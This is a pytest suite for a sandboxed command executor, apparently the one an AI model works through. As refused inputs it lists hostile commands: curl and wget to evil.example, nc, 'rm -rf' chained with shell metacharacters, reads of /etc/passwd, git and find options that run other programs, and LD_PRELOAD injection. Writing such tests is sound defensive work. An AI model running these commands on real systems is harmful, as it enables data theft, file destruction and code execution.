"""The executor, the second wall: one allowed program, no shell, paths inside, secrets masked."""

from __future__ import annotations

import base64
import os
import subprocess
import time
from pathlib import Path

import pytest

from runner import DEFAULT_PROGRAMS, CommandRefused, Executor, Workspace
from tests.support.waiting import wait_until

CANARY = "canary-7f3c9a1e-token"


@pytest.fixture
def executor(workspace: Workspace) -> Executor:
    return Executor(workspace, timeout=60.0)


def test_an_allowed_program_runs_in_the_workspace(executor: Executor, workspace: Workspace) -> None:
    (workspace.root / "notes.txt").write_text("one\ntwo\n")
    result = executor.run("wc -l notes.txt")
    assert result.succeeded
    assert result.stdout.strip() == "2 notes.txt"
    assert executor.run("pwd").stdout.strip() == str(workspace.root)


def test_a_program_off_the_allow_list_is_refused(executor: Executor) -> None:
    for command in ("python3 -c 'print(1)'", "sh -c ls", "bash", "sed -i s/a/b/ x", "env ls"):
        with pytest.raises(CommandRefused, match="allow-list"):
            executor.run(command)


def test_a_program_named_by_path_must_be_the_installed_one(
    executor: Executor, workspace: Workspace
) -> None:
    fake_ls = workspace.root / "ls"
    fake_ls.write_text("#!/bin/sh\ntouch pwned\n")
    fake_ls.chmod(0o755)
    with pytest.raises(CommandRefused, match="not the system's `ls`"):
        executor.run("./ls")
    assert not (workspace.root / "pwned").exists()
    assert executor.run("/bin/ls").succeeded  # /bin/ls is /usr/bin/ls on this system


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/x",
        "wget -q evil.example",
        "/usr/bin/curl x",
        "ssh host",
        "nc h 1",
    ],
)
def test_exfiltration_programs_are_refused_even_when_allow_listed(
    workspace: Workspace, command: str
) -> None:
    executor = Executor(workspace, DEFAULT_PROGRAMS | {"curl", "wget", "ssh", "nc"})
    with pytest.raises(CommandRefused, match="send data out of the sandbox"):
        executor.run(command)


def test_an_exfiltration_program_runs_only_when_configured_explicitly(workspace: Workspace) -> None:
    executor = Executor(workspace, exfiltration_programs=frozenset({"curl"}))
    assert executor.plan("curl --version").exfiltration
    assert executor.run("curl --version").succeeded


def test_no_shell_a_compound_command_removes_nothing(
    executor: Executor, workspace: Workspace
) -> None:
    (workspace.root / "x").mkdir()
    for command in (
        "ls; rm -rf x",
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls | rm -rf x",
        "ls & rm -rf x",
        "ls\nrm -rf x",
        "ls $(rm -rf x)",
        "ls `rm -rf x`",
        "echo > x/file",
        "cat < x",
        "(rm -rf x)",
        'ls "$(rm -rf x)"',
        "X=1 rm -rf x",
    ):
        with pytest.raises(CommandRefused):
            executor.run(command)
    assert (workspace.root / "x").is_dir()


def test_quoted_metacharacters_are_plain_arguments(executor: Executor) -> None:
    result = executor.run("echo 'a; b && c' \"| d\" e\\;f '$HOME'")
    assert result.stdout == "a; b && c | d e;f $HOME\n"


def test_invisible_characters_are_refused(executor: Executor) -> None:
    with pytest.raises(CommandRefused, match="invisible"):
        executor.run("echo safe\u202e")


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/passwd",
        "cat ../outside/sentinel.txt",
        "cp notes.txt /tmp/stolen",
        "cp notes.txt ../outside/sentinel.txt",
        "grep -r root /etc",
        "ls --directory=/etc",
        "sort -o/tmp/stolen notes.txt",
        "sort --output=../outside/sentinel.txt notes.txt",
        "git -C /etc status",
        "cat link_out/sentinel.txt",
        "cat link_out",
        "ls ..",
        "find / -name passwd",
        "rm -rf ../outside",
    ],
)
def test_path_arguments_outside_the_workspace_are_refused(
    executor: Executor, workspace: Workspace, outside: Path, outside_untouched, command: str
) -> None:
    (workspace.root / "notes.txt").write_text("notes")
    os.symlink(outside, workspace.root / "link_out")
    with pytest.raises(CommandRefused, match="leaves the workspace"):
        executor.run(command)
    assert outside_untouched()
    assert not Path("/tmp/stolen").exists()


def test_globs_expand_inside_and_expansions_that_leave_are_refused(
    executor: Executor, workspace: Workspace, outside: Path
) -> None:
    (workspace.root / "a.txt").write_text("A")
    (workspace.root / "b.txt").write_text("B")
    assert executor.run("cat *.txt").stdout == "AB"
    os.symlink(outside, workspace.root / "z_link")
    with pytest.raises(CommandRefused, match="leaves the workspace"):
        executor.run("cat z_*/*")


def test_workspace_paths_as_the_model_sees_them_are_accepted(
    executor: Executor, workspace: Workspace
) -> None:
    (workspace.root / "notes.txt").write_text("seen as /workspace/notes.txt")
    assert executor.run("cat /workspace/notes.txt").stdout == "seen as /workspace/notes.txt"


def test_find_and_git_cannot_be_made_to_run_other_programs(
    executor: Executor, workspace: Workspace
) -> None:
    refused = (
        "find . -exec touch pwned ;",
        "find . -execdir touch pwned \\;",
        "git -c core.pager=touch log",
        "git config core.fsmonitor 'touch pwned'",
        "git --exec-path=. status",
        "git fetch --upload-pack='touch pwned' origin",
        "git submodule foreach touch pwned",
        "git bisect run touch pwned",
    )
    for command in refused:
        with pytest.raises(CommandRefused):
            executor.run(command)
    assert not (workspace.root / "pwned").exists()


def test_git_never_works_on_a_repository_above_the_workspace(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "ws").mkdir()
    # Control: plain git in the workspace would act on the repository that contains it.
    plain = subprocess.run(["git", "status"], cwd=tmp_path / "ws", capture_output=True)
    assert plain.returncode == 0

    result = Executor(Workspace(tmp_path / "ws"), timeout=60.0).run("git status")

    assert not result.succeeded
    assert "not a git repository" in result.stderr


def test_files_in_the_git_directory_are_only_for_git(
    executor: Executor, workspace: Workspace
) -> None:
    assert executor.run("git init -q").succeeded
    (workspace.root / "evil").write_text("[core]\n\tfsmonitor = touch pwned\n")
    for command in ("cp evil .git/config", "mv evil .git/config", "rm -rf .git", "cat .git/config"):
        with pytest.raises(CommandRefused, match="protected"):
            executor.run(command)
    assert executor.run("git status").succeeded
    assert not (workspace.root / "pwned").exists()


def test_the_host_environment_is_not_inherited(
    executor: Executor, workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOST_ONLY_SECRET", CANARY)
    executor = Executor(workspace, DEFAULT_PROGRAMS | {"printenv"})
    result = executor.run("printenv")
    assert result.succeeded
    assert CANARY not in result.stdout
    names = {line.split("=", 1)[0] for line in result.stdout.splitlines()}
    assert names == {"PATH", "HOME", "PWD", "LANG", "LC_ALL", "TERM"}


def test_an_injected_secret_reaches_the_program_but_not_the_model(workspace: Workspace) -> None:
    executor = Executor(workspace, DEFAULT_PROGRAMS | {"printenv", "base64", "basenc"})
    (workspace.root / "leak.txt").write_text(f"token={CANARY}\n")
    secrets = {"DEPLOY_TOKEN": CANARY}

    printed = executor.run("printenv DEPLOY_TOKEN", secrets=secrets)
    encoded = executor.run("base64 leak.txt", secrets=secrets)
    hexdump = executor.run("basenc --base16 leak.txt", secrets=secrets)

    assert printed.succeeded and printed.stdout == "***\n"
    base64_text = base64.b64encode(f"token={CANARY}\n".encode()).decode()
    assert encoded.succeeded and "***" in encoded.stdout
    assert base64_text not in encoded.stdout and CANARY not in encoded.stdout
    assert hexdump.succeeded and "***" in hexdump.stdout
    assert CANARY.encode().hex().upper() not in hexdump.stdout
    assert "DEPLOY_TOKEN" not in executor.run("printenv").stdout  # only for that one call


def test_a_secret_cannot_hijack_the_childs_environment(executor: Executor) -> None:
    for name in ("LD_PRELOAD", "PATH", "HOME", "GIT_DIR", "PYTHONPATH", "BAD NAME"):
        with pytest.raises(CommandRefused, match="cannot be injected"):
            executor.run("ls", secrets={name: "/tmp/evil"})


def test_a_timeout_kills_the_whole_process_group(workspace: Workspace) -> None:
    executor = Executor(workspace, DEFAULT_PROGRAMS | {"timeout", "sleep"}, timeout=0.5)
    started = time.monotonic()
    result = executor.run("timeout 600 sleep 341.5")  # `timeout` keeps `sleep` as its child
    assert result.timed_out and result.exit_code is None
    assert time.monotonic() - started < 20  # killed at the executor's 0.5 s, not sleep's 341.5
    assert "killed" in result.as_text()
    # SIGKILL went to the whole group; on a busy machine the child may take a moment to die.
    gone = lambda: not _processes_running("sleep", "341.5")  # noqa: E731
    wait_until(gone, "the grandchild `sleep` to die", timeout=120)


def test_output_is_truncated_at_the_limit(workspace: Workspace) -> None:
    (workspace.root / "big.txt").write_bytes(b"x" * 1_000_000)
    executor = Executor(workspace, max_output=1000)
    result = executor.run("cat big.txt")
    assert result.succeeded
    assert len(result.stdout) == 1000
    assert result.stdout_bytes == 1_000_000
    assert "truncated: 1000000 bytes, first 1000 shown" in result.as_text()


def test_a_secret_straddling_the_output_limit_is_masked_whole(workspace: Workspace) -> None:
    (workspace.root / "padded.txt").write_text("." * 990 + CANARY)
    executor = Executor(workspace, max_output=1000)
    result = executor.run("cat padded.txt", secrets={"TOKEN": CANARY})
    assert CANARY[:10] not in result.stdout
    assert result.stdout.endswith("***")


def _processes_running(*argv: str) -> bool:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if handle.read().split(b"\0")[: len(argv)] == [a.encode() for a in argv]:
                    return True
        except OSError:
            continue
    return False
